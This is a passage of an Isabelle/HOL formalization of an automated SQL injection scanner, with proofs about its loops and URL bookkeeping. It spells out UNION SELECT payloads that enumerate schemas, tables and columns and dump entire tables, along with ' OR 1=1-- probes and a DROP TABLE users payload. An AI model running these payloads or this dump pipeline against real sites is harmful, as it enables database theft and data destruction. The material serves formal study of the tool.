  "extractSystemInfo env url columnCount result scanConfig =
     (let (ev, out) = info_loop env scanConfig url result (systemInfoPayloads columnCount)
      in (Logged INFO ExtractingSystemInformation # ev, out))"

subsection \<open>Schemas: \<open>extractDatabaseSchemas\<close>\<close>

definition schemaPayload :: "nat \<Rightarrow> string" where
  "schemaPayload columnCount =
     ''' UNION SELECT CONCAT(schema_name,'::'),'' @ null_columns columnCount
       @ '' FROM information_schema.schemata--''"

definition add_schemas :: "string list \<Rightarrow> sqli_result \<Rightarrow> sqli_result" where
  "add_schemas schemas result =
     foldl (\<lambda>res schema. res\<lparr>databases := set_add schema (databases res)\<rparr>) result
       (filter (\<lambda>schema. \<not> str_includes schema ''information_schema'' \<and> \<not> str_includes schema ''mysql'')
          schemas)"

fun schema_requests ::
  "(url_obj \<Rightarrow> string option) \<Rightarrow> url_obj list \<Rightarrow> sqli_result \<Rightarrow> event list \<times> sqli_result \<times> loop_end" where
  "schema_requests get [] result = ([], result, Finished)"
| "schema_requests get (r # rs) result =
     (case get r of
        None \<Rightarrow> ([Sent r], result, Threw)
      | Some body \<Rightarrow>
          (let (ev, result', e) =
                 schema_requests get rs (add_schemas (extractListFromResponse body) result)
           in (Sent r # ev, result', e)))"

definition extractDatabaseSchemas ::
  "scan_env \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> sqli_result \<Rightarrow> scan_config \<Rightarrow> event list \<times> (error + sqli_result)" where
  "extractDatabaseSchemas env url columnCount result scanConfig =
     (case sanitizePayload (JString (schemaPayload columnCount)) (maxPayloadLength scanConfig) of
        Inl e \<Rightarrow> ([Logged INFO EnumeratingSchemas], Inl e)
      | Inr payload \<Rightarrow>
          (case parseURL env url of
             None \<Rightarrow> ([Logged INFO EnumeratingSchemas, Logged ERROR ErrorExtractingSchemas], Inr result)
           | Some testUrl \<Rightarrow>
               (let (ev, result', e) = schema_requests (httpGet env) (probe_requests testUrl payload) result
                in (Logged INFO EnumeratingSchemas # ev
                      @ (if e = Threw then [Logged ERROR ErrorExtractingSchemas] else []),
                    Inr result'))))"

subsection \<open>Structure: \<open>extractDatabaseStructure\<close>\<close>

text \<open>
  The tasks the pool runs at the same time are modelled in the order of their list, each
  to its end before the next starts; this is the schedule in which every response arrives
  before the next task is started. A task sets its payload and serializes the URL without
  a suspension between the two, so each request carries the payload of its own task under
  every schedule; what the schedule decides is the order in which the tasks append to
  \<open>columns\<close>. When a task throws, the stage ends in its \<open>catch\<close>; the tasks that the pool
  would still run behind the rejected \<open>Promise.all\<close> are not modelled.
\<close>

definition tablePayload :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "tablePayload columnCount dbName =
     ''' UNION SELECT CONCAT(table_name,'::'),'' @ null_columns columnCount
       @ '' FROM information_schema.tables WHERE table_schema='' @ [CHR 0x27] @ dbName
       @ [CHR 0x27] @ ''--''"

definition columnPayload :: "nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "columnPayload columnCount dbName table =
     ''' UNION SELECT CONCAT(column_name,'::'),'' @ null_columns columnCount
       @ '' FROM information_schema.columns WHERE table_schema='' @ [CHR 0x27] @ dbName
       @ [CHR 0x27] @ '' AND table_name='' @ [CHR 0x27] @ table @ [CHR 0x27] @ ''--''"

text \<open>
  The tasks of one response, one per table: the task adds the table, sets \<open>param\<close> of the
  shared URL object to its column payload, requests, and appends the qualified columns.
  The result is returned also when a task throws, since what the earlier tasks did to it
  stays.
\<close>

fun column_tasks ::
  "(url_obj \<Rightarrow> string option) \<Rightarrow> scan_config \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string list
     \<Rightarrow> url_obj \<Rightarrow> sqli_result \<Rightarrow> event list \<times> sqli_result \<times> (error + url_obj)" where
  "column_tasks get scanConfig columnCount dbName param [] testUrl result = ([], result, Inr testUrl)"
| "column_tasks get scanConfig columnCount dbName param (table # rest) testUrl result =
     (let result1 = result\<lparr>tables := set_add table (tables result)\<rparr>
      in case sanitizePayload (JString (columnPayload columnCount dbName table))
                (maxPayloadLength scanConfig) of
           Inl e \<Rightarrow> ([], result1, Inl e)
         | Inr payload \<Rightarrow>
             (let testUrl1 = testUrl\<lparr>searchParams := set_param param payload (searchParams testUrl)\<rparr>
              in case get testUrl1 of
                   None \<Rightarrow> ([Sent testUrl1], result1, Inl TransportFailure)
                 | Some body \<Rightarrow>
                     (let cols = extractListFromResponse body;
                          result2 = result1\<lparr>columns := columns result1
                                       @ map (\<lambda>col. dbName @ ''.'' @ table @ ''.'' @ col) cols\<rparr>;
                          (ev, result3, out) =
                             column_tasks get scanConfig columnCount dbName param rest testUrl1 result2
                      in (Sent testUrl1 # ev, result3, out))))"

lemma set_param_has_name: "name \<in> fst ` set (set_param name v ps)"
  by (induction ps) auto

lemma column_tasks_length:
  "column_tasks get scanConfig columnCount dbName param ts testUrl result = (ev, result', Inr testUrl')
   \<Longrightarrow> param \<in> fst ` set (searchParams testUrl)
   \<Longrightarrow> length (searchParams testUrl') \<le> length (searchParams testUrl)"
proof (induction ts arbitrary: testUrl result ev result')
  case Nil
  then show ?case by simp
next
  case (Cons table rest)
  obtain payload where p: "sanitizePayload (JString (columnPayload columnCount dbName table))
                (maxPayloadLength scanConfig) = Inr payload"
    using Cons.prems(1) by (auto simp add: Let_def split: sum.splits)
  let ?u1 = "testUrl\<lparr>searchParams := set_param param payload (searchParams testUrl)\<rparr>"
  obtain body where b: "get ?u1 = Some body"
    using Cons.prems(1) p by (auto simp add: Let_def split: option.splits)
  obtain ev0 r0 where rec: "column_tasks get scanConfig columnCount dbName param rest ?u1
      (result\<lparr>tables := set_add table (tables result),
              columns := columns result
                 @ map (\<lambda>col. dbName @ ''.'' @ table @ ''.'' @ col) (extractListFromResponse body)\<rparr>)
      = (ev0, r0, Inr testUrl')"
    using Cons.prems(1) p b by (auto simp add: Let_def split: prod.splits)
  have "length (searchParams testUrl') \<le> length (searchParams ?u1)"
    using Cons.IH[OF rec] set_param_has_name[of param payload "searchParams testUrl"] by simp
  also have "\<dots> \<le> length (searchParams testUrl)"
    using length_set_param[OF Cons.prems(2)] by simp
  finally show ?case .
qed

text \<open>
  The loop of \<open>extractDatabaseStructure\<close> over the live parameter list, from index \<open>i\<close> on:
  the table payload goes into the parameter at the index, the response lists the tables,
  and the tasks of the tables run on the same URL object before the next index is read.
\<close>

function structure_loop ::
  "(url_obj \<Rightarrow> string option) \<Rightarrow> scan_config \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string \<Rightarrow> url_obj \<Rightarrow> nat
     \<Rightarrow> sqli_result \<Rightarrow> event list \<times> sqli_result \<times> loop_end" where
  "structure_loop get scanConfig columnCount dbName payload testUrl i result =
     (if i < length (searchParams testUrl) then
        (let param = fst (searchParams testUrl ! i);
             testUrl1 = testUrl\<lparr>searchParams := set_param param payload (searchParams testUrl)\<rparr>
         in case get testUrl1 of
              None \<Rightarrow> ([Sent testUrl1], result, Threw)
            | Some body \<Rightarrow>
                (case column_tasks get scanConfig columnCount dbName param
                        (extractListFromResponse body) testUrl1 result of
                   (ev, result1, Inl e) \<Rightarrow> (Sent testUrl1 # ev, result1, Threw)
                 | (ev, result1, Inr testUrl2) \<Rightarrow>
                     (let (ev', result2, e) =
                            structure_loop get scanConfig columnCount dbName payload testUrl2 (Suc i) result1
                      in (Sent testUrl1 # ev @ ev', result2, e))))
      else ([], result, Finished))"
  by pat_completeness auto
termination
proof (relation "measure (\<lambda>(get, scanConfig, columnCount, dbName, payload, testUrl, i, result).
                            length (searchParams testUrl) - i)")
  show "wf (measure (\<lambda>(get, scanConfig, columnCount, dbName, payload, testUrl, i, result).
                            length (searchParams testUrl) - i))"
    by simp
next
  fix get :: "url_obj \<Rightarrow> string option" and scanConfig :: scan_config and columnCount :: nat
    and dbName payload :: string and testUrl :: url_obj and i :: nat and result :: sqli_result
    and param testUrl1 body x y ev result1 z testUrl2
  assume i: "i < length (searchParams testUrl)"
    and param: "param = fst (searchParams testUrl ! i)"
    and u1: "testUrl1 = testUrl\<lparr>searchParams := set_param param payload (searchParams testUrl)\<rparr>"
    and x: "(ev, y) = column_tasks get scanConfig columnCount dbName param
                        (extractListFromResponse body) testUrl1 result"
    and y: "(result1, z) = y" and z: "z = Inr testUrl2"
  have mem: "param \<in> fst ` set (searchParams testUrl)" using i param by simp
  have "column_tasks get scanConfig columnCount dbName param
          (extractListFromResponse body) testUrl1 result = (ev, result1, Inr testUrl2)"
    using x y z by simp
  then have "length (searchParams testUrl2) \<le> length (searchParams testUrl1)"
    by (rule column_tasks_length) (simp add: u1 set_param_has_name)
  also have "\<dots> \<le> length (searchParams testUrl)"
    using length_set_param[OF mem] by (simp add: u1)
  finally show "((get, scanConfig, columnCount, dbName, payload, testUrl2, Suc i, result1),
          (get, scanConfig, columnCount, dbName, payload, testUrl, i, result))
        \<in> measure (\<lambda>(get, scanConfig, columnCount, dbName, payload, testUrl, i, result).
                            length (searchParams testUrl) - i)"
    using i by simp
qed

declare structure_loop.simps [simp del]

definition extractDatabaseStructure ::
  "scan_env \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> sqli_result \<Rightarrow> scan_config
     \<Rightarrow> event list \<times> (error + sqli_result)" where
  "extractDatabaseStructure env url columnCount dbName result scanConfig =
     (case sanitizePayload (JString (tablePayload columnCount dbName)) (maxPayloadLength scanConfig) of
        Inl e \<Rightarrow> ([Logged INFO (ExtractingStructure dbName)], Inl e)
      | Inr payload \<Rightarrow>
          (case parseURL env url of
             None \<Rightarrow>
               ([Logged INFO (ExtractingStructure dbName), Logged ERROR (ErrorExtractingStructure dbName)],
                Inr result)
           | Some testUrl \<Rightarrow>
               (let (ev, result', e) =
                      structure_loop (httpGet env) scanConfig columnCount dbName payload testUrl 0 result
                in (Logged INFO (ExtractingStructure dbName) # ev
                      @ (if e = Threw then [Logged ERROR (ErrorExtractingStructure dbName)] else []),
                    Inr result'))))"

text \<open>
  \<open>Array.from(result.databases).map(dbName => limit(() => extractDatabaseStructure(...)))\<close>
  under \<open>Promise.all\<close>: the databases as they are when the stage starts, one after the
  other.
\<close>

fun structure_all ::
  "scan_env \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> scan_config \<Rightarrow> string list \<Rightarrow> sqli_result
     \<Rightarrow> event list \<times> (error + sqli_result)" where
  "structure_all env url columnCount scanConfig [] result = ([], Inr result)"
| "structure_all env url columnCount scanConfig (dbName # rest) result =
     (case extractDatabaseStructure env url columnCount dbName result scanConfig of
        (ev, Inl e) \<Rightarrow> (ev, Inl e)
      | (ev, Inr result') \<Rightarrow>
          (let (ev', out) = structure_all env url columnCount scanConfig rest result'
           in (ev @ ev', out)))"

subsection \<open>Data: \<open>dumpAllTables\<close>\<close>

text \<open>\<open>col.split('.').pop()\<close>: the part of \<open>col\<close> after its last dot.\<close>

definition last_segment :: "string \<Rightarrow> string" where
  "last_segment col = rev (takeWhile (\<lambda>c. c \<noteq> CHR ''.'') (rev col))"

definition dumpPayload :: "nat \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> string" where
  "dumpPayload columnCount cols table =
     ''' UNION SELECT CONCAT_WS('::','' @ join '','' (map last_segment cols) @ ''),''
       @ null_columns columnCount @ '' FROM '' @ table @ ''--''"

fun dump_requests ::
  "(url_obj \<Rightarrow> string option) \<Rightarrow> string \<Rightarrow> url_obj list \<Rightarrow> sqli_result
     \<Rightarrow> event list \<times> sqli_result \<times> loop_end" where
  "dump_requests get table [] result = ([], result, Finished)"
| "dump_requests get table (r # rs) result =
     (case get r of
        None \<Rightarrow> ([Sent r], result, Threw)
      | Some body \<Rightarrow>
          (let extractedData = extractListFromResponse body;
               result' = (if length extractedData > 0
                          then result\<lparr>tableData := map_set table extractedData (tableData result)\<rparr>
                          else result);
               (ev, result'', e) = dump_requests get table rs result'
           in (Sent r # ev, result'', e)))"

text \<open>
  The tasks of \<open>dumpAllTables\<close>, one per table, in the order of the list (the schedule of
  the structure stage). \<open>sanitizePayload\<close> stands in the task before its \<open>try\<close>: its
  exception rejects the task and with it \<open>dumpAllTables\<close>.
\<close>

fun dump_tasks ::
  "scan_env \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> scan_config \<Rightarrow> string list \<Rightarrow> sqli_result
     \<Rightarrow> event list \<times> (error + sqli_result)" where
  "dump_tasks env url columnCount scanConfig [] result = ([], Inr result)"
| "dump_tasks env url columnCount scanConfig (table # rest) result =
     (let cols = filter (\<lambda>col. str_includes col table) (columns result)
      in if length cols = 0 then
           (let (ev', out) = dump_tasks env url columnCount scanConfig rest result
            in (Logged INFO (DumpingTable table) # Logged WARN (NoColumnsForTable table) # ev', out))
         else
           (case sanitizePayload (JString (dumpPayload columnCount cols table))
                   (maxPayloadLength scanConfig) of
              Inl e \<Rightarrow> ([Logged INFO (DumpingTable table)], Inl e)
            | Inr payload \<Rightarrow>
                (case parseURL env url of
                   None \<Rightarrow>
                     (let (ev', out) = dump_tasks env url columnCount scanConfig rest result
                      in (Logged INFO (DumpingTable table) # Logged ERROR (ErrorDumpingTable table) # ev',
                          out))
                 | Some testUrl \<Rightarrow>
                     (let (ev, result', e) =
                            dump_requests (httpGet env) table (probe_requests testUrl payload) result;
                          (ev', out) = dump_tasks env url columnCount scanConfig rest result'
                      in (Logged INFO (DumpingTable table) # ev
                            @ (if e = Threw then [Logged ERROR (ErrorDumpingTable table)] else [])
                            @ ev',
                          out)))))"

definition dumpAllTables ::
  "scan_env \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> sqli_result \<Rightarrow> scan_config \<Rightarrow> event list \<times> (error + sqli_result)" where
  "dumpAllTables env url columnCount result scanConfig =
     (let (ev, out) = dump_tasks env url columnCount scanConfig (tables result) result
      in (Logged INFO AttemptingDump # ev, out))"

subsection \<open>Saving and the whole scan: \<open>testSQLInjection\<close>\<close>

text \<open>
  \<open>saveResultsToJSON\<close> and \<open>saveResultsToSQL\<close> write a file each, log and rethrow when the
  write fails, and leave the result as it is.
\<close>

definition saveResults :: "scan_env \<Rightarrow> event list \<times> (error + unit)" where
  "saveResults env =
     (if writeJSON_ok env \<and> writeSQL_ok env then ([], Inr ())
      else ([Logged ERROR ErrorSavingResults], Inl WriteFailure))"

text \<open>
  The stages after the column count is known, in the order of the source. The two stages
  under the first \<open>Promise.all\<close> write different fields of the result and use a URL
  object each; the model runs the system information first.
\<close>

definition comprehensive_scan ::
  "scan_env \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> sqli_result \<Rightarrow> scan_config \<Rightarrow> event list \<times> (error + sqli_result)" where
  "comprehensive_scan env url columnCount result scanConfig =
     (case extractSystemInfo env url columnCount result scanConfig of
        (ev1, Inl e) \<Rightarrow> (ev1, Inl e)
      | (ev1, Inr result1) \<Rightarrow>
          (case extractDatabaseSchemas env url columnCount result1 scanConfig of
             (ev2, Inl e) \<Rightarrow> (ev1 @ ev2, Inl e)
           | (ev2, Inr result2) \<Rightarrow>
               (case structure_all env url columnCount scanConfig (databases result2) result2 of
                  (ev3, Inl e) \<Rightarrow> (ev1 @ ev2 @ ev3, Inl e)
                | (ev3, Inr result3) \<Rightarrow>
                    (case dumpAllTables env url columnCount result3 scanConfig of
                       (ev4, Inl e) \<Rightarrow> (ev1 @ ev2 @ ev3 @ ev4, Inl e)
                     | (ev4, Inr result4) \<Rightarrow>
                         (case saveResults env of
                            (ev5, Inl e) \<Rightarrow> (ev1 @ ev2 @ ev3 @ ev4 @ ev5, Inl e)
                          | (ev5, Inr u) \<Rightarrow> (ev1 @ ev2 @ ev3 @ ev4 @ ev5, Inr result4))))))"

text \<open>
  \<open>testSQLInjection(url, config)\<close>, with \<open>scanConfig\<close> the configuration merged over
  \<open>SCAN_CONFIG\<close>. An exception inside the \<open>try\<close> is logged and thrown again.
\<close>

definition testSQLInjection ::
  "scan_env \<Rightarrow> string \<Rightarrow> scan_config \<Rightarrow> event list \<times> (error + sqli_result)" where
  "testSQLInjection env url scanConfig =
     (if \<not> validateUrl (parseURL env) url then ([Logged ERROR InvalidUrlProvided], Inl InvalidUrl)
      else
        (case testBasicVulnerability env url initial_result scanConfig of
           (ev1, Inl e) \<Rightarrow> (ev1 @ [Logged ERROR FatalErrorDuringScan], Inl e)
         | (ev1, Inr (isVulnerable, result1)) \<Rightarrow>
             if \<not> isVulnerable then (ev1 @ [Logged INFO NoVulnerabilitiesDetected], Inr result1)
             else
               (let result2 = result1\<lparr>vulnerable := True\<rparr>
                in case findColumnCount env url scanConfig of
                     (ev2, Inl e) \<Rightarrow>
                       (ev1 @ Logged INFO BasicVulnerabilityConfirmed # ev2
                          @ [Logged ERROR FatalErrorDuringScan], Inl e)
                   | (ev2, Inr columnCount) \<Rightarrow>
                       if columnCount \<le> 0 then
                         (ev1 @ Logged INFO BasicVulnerabilityConfirmed # ev2
                            @ [Logged WARN NoColumnsFound], Inr result2)
                       else
                         (case comprehensive_scan env url columnCount result2 scanConfig of
                            (ev3, Inl e) \<Rightarrow>
                              (ev1 @ Logged INFO BasicVulnerabilityConfirmed # ev2
                                 @ Logged INFO (FoundColumns columnCount) # ev3
                                 @ [Logged ERROR FatalErrorDuringScan], Inl e)
                          | (ev3, Inr result3) \<Rightarrow>
                              (ev1 @ Logged INFO BasicVulnerabilityConfirmed # ev2
                                 @ Logged INFO (FoundColumns columnCount) # ev3, Inr result3)))))"

text \<open>
  The object \<open>saveResultsToJSON\<close> serializes: the properties of the result, the two sets
  as arrays and the map as an object. It gives the property names a caller finds on the
  result.
\<close>

datatype json =
    JsonBool bool
  | JsonString string
  | JsonNull
  | JsonArray "json list"
  | JsonObject "(string \<times> json) list"

definition json_strings :: "string list \<Rightarrow> json" where
  "json_strings xs = JsonArray (map JsonString xs)"

definition json_nullable :: "string option \<Rightarrow> json" where
  "json_nullable x = (case x of None \<Rightarrow> JsonNull | Some s \<Rightarrow> JsonString s)"

definition serializedResult :: "sqli_result \<Rightarrow> (string \<times> json) list" where
  "serializedResult result =
     [(''vulnerable'', JsonBool (vulnerable result)),
      (''columns'', json_strings (columns result)),
      (''tables'', json_strings (tables result)),
      (''databases'', json_strings (databases result)),
      (''tableData'', JsonObject (map (\<lambda>(table, rows). (table, json_strings rows)) (tableData result))),
      (''databaseInfo'',
         JsonObject [(''version'', json_nullable (version (databaseInfo result))),
                     (''user'', json_nullable (user (databaseInfo result))),
                     (''currentDb'', json_nullable (currentDb (databaseInfo result)))]),
      (''successfulPayloads'', json_strings (successfulPayloads result))]"

section \<open>Notions the theorems are stated with\<close>

text \<open>
  What \<open>sanitizePayload\<close> returns for a string within the length limit; when the
  requests of one payload, taken in order, reach a response with a property before any of
  them fails (\<open>probe_stops\<close>), and when they reach a failing request before a response
  with the property (\<open>probe_fails\<close>); and these for the two classifications of the
  scanner: the detection signature, and the absence of \<open>error\<close>.
\<close>

definition sanitized :: "string \<Rightarrow> string" where
  "sanitized s = trim (filter (\<lambda>c. c \<noteq> CHR 0x0D \<and> c \<noteq> CHR 0x0A \<and> c \<noteq> CHR '';'') s)"

definition probe_stops :: "(string \<Rightarrow> bool) \<Rightarrow> (url_obj \<Rightarrow> string option) \<Rightarrow> url_obj list \<Rightarrow> bool" where
  "probe_stops P get reqs =
     (\<exists>k<length reqs.
        (\<forall>j<k. \<exists>b. get (reqs ! j) = Some b \<and> \<not> P b)
        \<and> (\<exists>b. get (reqs ! k) = Some b \<and> P b))"

definition probe_fails :: "(string \<Rightarrow> bool) \<Rightarrow> (url_obj \<Rightarrow> string option) \<Rightarrow> url_obj list \<Rightarrow> bool" where
  "probe_fails P get reqs =
     (\<exists>k<length reqs.
        (\<forall>j<k. \<exists>b. get (reqs ! j) = Some b \<and> \<not> P b)
        \<and> get (reqs ! k) = None)"

definition no_error :: "string \<Rightarrow> bool" where
  "no_error body = (\<not> str_includes (toLowerCase body) ''error'')"

definition probe_clean :: "(url_obj \<Rightarrow> string option) \<Rightarrow> url_obj list \<Rightarrow> bool" where
  "probe_clean get reqs = probe_stops no_error get reqs"

definition accepted :: "scan_env \<Rightarrow> url_obj \<Rightarrow> string \<Rightarrow> bool" where
  "accepted env u p = probe_clean (httpGet env) (probe_requests u (sanitized p))"

definition signature_found :: "string \<Rightarrow> bool" where
  "signature_found body = signature_match (toLowerCase body)"

definition matched :: "scan_env \<Rightarrow> url_obj \<Rightarrow> string \<Rightarrow> bool" where
  "matched env u p = probe_stops signature_found (httpGet env) (probe_requests u (sanitized p))"

definition failed :: "scan_env \<Rightarrow> url_obj \<Rightarrow> string \<Rightarrow> bool" where
  "failed env u p = probe_fails signature_found (httpGet env) (probe_requests u (sanitized p))"



text \<open>
  A clean payload is a value \<open>sanitizePayload\<close> returns for some string under the length
  limit \<open>m\<close>. A request is carried (for the URL \<open>u\<close> under test) when each value of its
  query parameters is a value of \<open>u\<close> or a clean payload, and at least one is a clean
  payload.
\<close>

definition clean_payload :: "int \<Rightarrow> string \<Rightarrow> bool" where
  "clean_payload m t = (\<exists>s. sanitizePayload (JString s) m = Inr t)"

definition carried :: "url_obj \<Rightarrow> int \<Rightarrow> url_obj \<Rightarrow> bool" where
  "carried u m r =
     ((\<forall>p\<in>set (searchParams r). snd p \<in> snd ` set (searchParams u) \<or> clean_payload m (snd p))
      \<and> (\<exists>p\<in>set (searchParams r). clean_payload m (snd p)))"

definition sent_ok :: "url_obj \<Rightarrow> int \<Rightarrow> event list \<Rightarrow> bool" where
  "sent_ok u m ev = (\<forall>r. Sent r \<in> set ev \<longrightarrow> carried u m r)"


definition paths_bounded :: "url_store \<Rightarrow> bool" where
  "paths_bounded st =
     (\<forall>d paths. seenDomains st d = Some paths \<longrightarrow> int (length paths) \<le> maxPathsPerDomain (config st))"

definition demo_parse :: url_parser where
  "demo_parse url =
     (if url = ''http://a.com/p1?id=1'' then
        Some \<lparr>origin = ''http://a.com'', hostname = ''a.com'', pathname = ''/p1'', searchParams = [(''id'', ''1'')]\<rparr>
      else if url = ''http://a.com/p2?id=1'' then
        Some \<lparr>origin = ''http://a.com'', hostname = ''a.com'', pathname = ''/p2'', searchParams = [(''id'', ''1'')]\<rparr>
      else if url = ''http://a.com/p3?id=1'' then
        Some \<lparr>origin = ''http://a.com'', hostname = ''a.com'', pathname = ''/p3'', searchParams = [(''id'', ''1'')]\<rparr>
      else if url = ''http://a.com/p1?id=1&utm_source=x'' then
        Some \<lparr>origin = ''http://a.com'', hostname = ''a.com'', pathname = ''/p1'',
              searchParams = [(''id'', ''1''), (''utm_source'', ''x'')]\<rparr>
      else if url = ''http://a.com/p4?id=1'' then
        Some \<lparr>origin = ''http://a.com'', hostname = ''a.com'', pathname = ''/p4'', searchParams = [(''id'', ''1'')]\<rparr>
      else None)"

definition drop_table_payload :: string where
  "drop_table_payload = '''; DROP TABLE users--''"

definition demo_store :: url_store where
  "demo_store =
     \<lparr>config = \<lparr>maxPathsPerDomain = 1, cooldownPeriod = 5000\<rparr>,
      testedUrls = [''http://a.com/p1''], vulnerableUrls = [],
      seenDomains = [''a.com'' \<mapsto> [''/p1'']], lastTestedTime = [''a.com'' \<mapsto> 0]\<rparr>"

definition demo_config :: url_store_config where
  "demo_config = \<lparr>maxPathsPerDomain = 2, cooldownPeriod = 5000\<rparr>"

definition demo_s1 :: url_store where
  "demo_s1 = snd (submitUrl demo_parse 0 ''http://a.com/p1?id=1'' (newURLStore demo_config))"

definition demo_s2 :: url_store where
  "demo_s2 = snd (submitUrl demo_parse 1000 ''http://a.com/p2?id=1'' demo_s1)"

definition demo_s3 :: url_store where
  "demo_s3 = snd (submitUrl demo_parse 2000 ''http://a.com/p3?id=1'' demo_s2)"

definition stub_url :: url_obj where
  "stub_url = \<lparr>origin = ''http://t.com'', hostname = ''t.com'', pathname = ''/item'',
                searchParams = [(''id'', ''1'')]\<rparr>"

definition stub_parse :: url_parser where
  "stub_parse url = (if url = ''http://t.com/item?id=1'' then Some stub_url else None)"

definition column_stub_get :: "url_obj \<Rightarrow> string option" where
  "column_stub_get r =
     (if ''' UNION ALL SELECT NULL,NULL,NULL--'' \<in> snd ` set (searchParams r)
      then Some ''<html>3 rows</html>''
      else Some ''SQL Error: the used SELECT statements have a different number of columns'')"

definition column_env :: scan_env where
  "column_env =
     \<lparr>parseURL = stub_parse, httpGet = column_stub_get,
      DETECTION_PAYLOADS = [],
      COLUMN_PAYLOADS = [''' UNION ALL SELECT NULL--'', ''' UNION ALL SELECT NULL,NULL--'',
                         ''' UNION ALL SELECT NULL,NULL,NULL--'',
                         ''' UNION ALL SELECT NULL,NULL,NULL,NULL--''],
      writeJSON_ok = True, writeSQL_ok = True\<rparr>"

definition two_param_url :: url_obj where
  "two_param_url = \<lparr>origin = ''http://t.com'', hostname = ''t.com'', pathname = ''/list'',
                     searchParams = [(''id'', ''1''), (''cat'', ''2'')]\<rparr>"

definition two_param_parse :: url_parser where
  "two_param_parse url = (if url = ''http://t.com/list?id=1&cat=2'' then Some two_param_url else None)"

definition silent_env :: scan_env where
  "silent_env =
     \<lparr>parseURL = two_param_parse, httpGet = (\<lambda>r. Some ''<html>2 items</html>''),
      DETECTION_PAYLOADS = [''' OR 1=1--''], COLUMN_PAYLOADS = [],
      writeJSON_ok = True, writeSQL_ok = True\<rparr>"

definition flaky_get :: "url_obj \<Rightarrow> string option" where
  "flaky_get r =
     (if ''' OR 1=1--'' \<in> snd ` set (searchParams r) then None
      else if ''' OR 'a'='a'' \<in> snd ` set (searchParams r)
      then Some ''You have an error in your SQL syntax''
      else Some ''<html>1 item</html>'')"

definition flaky_env :: scan_env where
  "flaky_env =
     \<lparr>parseURL = stub_parse, httpGet = flaky_get,
      DETECTION_PAYLOADS = [''' OR 1=1--'', '' ' OR 'a'='a; ''], COLUMN_PAYLOADS = [],
      writeJSON_ok = True, writeSQL_ok = True\<rparr>"





definition mydb_get :: "url_obj \<Rightarrow> string option" where
  "mydb_get r =
     (let v = (case map_of (searchParams r) ''id'' of Some x \<Rightarrow> x | None \<Rightarrow> [])
      in if v = ''' OR 1=1--'' then Some ''You have an error in your SQL syntax''
         else if v = ''' UNION ALL SELECT NULL,NULL--'' then Some ''<html>2 items</html>''
         else if v = schemaPayload 2 then Some ''mydb::''
         else Some ''SQL error'')"

definition mydb_env :: scan_env where
  "mydb_env =
     \<lparr>parseURL = stub_parse, httpGet = mydb_get,
      DETECTION_PAYLOADS = [''' OR 1=1--''],
      COLUMN_PAYLOADS = [''' UNION ALL SELECT NULL--'', ''' UNION ALL SELECT NULL,NULL--''],
      writeJSON_ok = True, writeSQL_ok = True\<rparr>"

definition mydb_result :: sqli_result where
  "mydb_result =
     \<lparr>vulnerable = True, columns = [], tables = [], databases = [''mydb''], tableData = [],
      databaseInfo = \<lparr>version = None, user = None, currentDb = None\<rparr>,
      successfulPayloads = [''' OR 1=1--'']\<rparr>"

lemma isUrlTested_testedUrls: "testedUrls (snd (isUrlTested parse now url st)) = testedUrls st"
  by (simp add: isUrlTested_def Let_def split: option.splits)

lemma isUrlTested_config: "config (snd (isUrlTested parse now url st)) = config st"
  by (simp add: isUrlTested_def Let_def split: option.splits)

lemma markUrlAsTested_testedUrls:
  "set (testedUrls (markUrlAsTested parse now url st)) = insert (normalizeUrl parse url) (set (testedUrls st))"
  by (auto simp add: markUrlAsTested_def Let_def set_add_def split: option.splits)

lemma markUrlAsTested_config: "config (markUrlAsTested parse now url st) = config st"
  by (simp add: markUrlAsTested_def Let_def split: option.splits)

lemma submitUrl_testedUrls:
  "set (testedUrls st) \<subseteq> set (testedUrls (snd (submitUrl parse now url st)))"
  using isUrlTested_testedUrls[of parse now url st]
  by (auto simp add: submitUrl_def Let_def markUrlAsTested_testedUrls split: prod.splits)

lemma store_step_testedUrls:
  "set (testedUrls st) \<subseteq> set (testedUrls (store_step parse st x))"
proof (cases x)
  case (IsUrlTested url now)
  then show ?thesis by (simp add: isUrlTested_testedUrls)
next
  case (MarkUrlAsTested url now)
  then show ?thesis by (auto simp add: markUrlAsTested_testedUrls)
next
  case (AddVulnerableUrl url payload)
  then show ?thesis by (simp add: addVulnerableUrl_def Let_def)
next
  case (CleanupOldEntries now)
  then show ?thesis by (simp add: cleanupOldEntries_def Let_def)
next
  case (SubmitUrl url now)
  then show ?thesis using submitUrl_testedUrls by simp
qed

lemma store_run_testedUrls:
  "set (testedUrls st) \<subseteq> set (testedUrls (store_run parse st ops))"
  unfolding store_run_def
proof (induction ops arbitrary: st)
  case Nil
  then show ?case by simp
next
  case (Cons x ops)
  have "set (testedUrls st) \<subseteq> set (testedUrls (store_step parse st x))"
    by (rule store_step_testedUrls)
  also have "\<dots> \<subseteq> set (testedUrls (foldl (store_step parse) (store_step parse st x) ops))"
    by (rule Cons.IH)
  finally show ?case by simp
qed

lemma isUrlTested_known:
  "normalizeUrl parse url \<in> set (testedUrls st) \<Longrightarrow> isUrlTested parse now url st = (True, st)"
  by (simp add: isUrlTested_def Let_def)

text \<open>
  Claim C2. Once \<open>markUrlAsTested(u)\<close> has run, whatever the store does afterwards
  (\<open>ops\<close>: any admission checks, commits, recordings of vulnerable URLs and clean-ups, on
  any URLs at any times), the admission check of every URL \<open>v\<close> with the normalized form of
  \<open>u\<close> answers true and leaves the store as it is, so the caller's admit-then-commit step
  rejects \<open>v\<close>: a normalized URL is admitted at most once.
\<close>

theorem tested_once:
  assumes "normalizeUrl parse v = normalizeUrl parse u"
    and "st' = store_run parse (markUrlAsTested parse t u st) ops"
  shows "isUrlTested parse now v st' = (True, st') \<and> submitUrl parse now v st' = (False, st')"
proof -
  have "normalizeUrl parse u \<in> set (testedUrls (markUrlAsTested parse t u st))"
    by (simp add: markUrlAsTested_testedUrls)
  then have "normalizeUrl parse v \<in> set (testedUrls st')"
    using store_run_testedUrls[of "markUrlAsTested parse t u st" parse ops] assms by auto
